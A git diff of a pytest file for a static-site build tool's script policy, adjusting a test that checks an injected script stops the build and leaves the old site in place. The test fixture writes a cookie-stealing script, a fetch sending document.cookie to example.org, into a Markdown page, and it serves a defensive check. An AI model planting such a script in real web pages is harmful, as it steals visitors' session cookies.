@@ -16,6 +16,7 @@ import pytest
 from playwright.sync_api import Browser
 
 from macros.policy import Refused, inline_scripts, protect, script_hash
+from macros.workspace import MARK
 from tests.site.kinds import PAGES, ROOTS
 
 HEAD = '<!doctype html><html lang="en"><head><meta charset="utf-8">'
@@ -138,8 +139,10 @@ def test_a_page_without_a_place_for_the_policy_is_refused():
 
 
 def test_an_injected_script_stops_the_build_and_the_old_site_stays(project_copy: Path, build):
-    (project_copy / "site").mkdir()
-    (project_copy / "site" / "index.html").write_text("old")
+    old = project_copy / "site"
+    (old / MARK).parent.mkdir(parents=True)
+    (old / MARK).touch()
+    (old / "index.html").write_text("old")
     with (project_copy / "docs" / "en" / "about.md").open("a") as file:
         file.write("\n<script>fetch('https://example.org/?' + document.cookie)</script>\n")
 
@@ -147,7 +150,7 @@ def test_an_injected_script_stops_the_build_and_the_old_site_stays(project_copy:
 
     assert result.returncode == 1
     assert "en/about/index.html: mã lạ trong trang" in result.stderr
-    assert (project_copy / "site" / "index.html").read_text() == "old"
+    assert (old / "index.html").read_text() == "old"
 
 
 def served(home: str, seconds: float = 60) -> str:
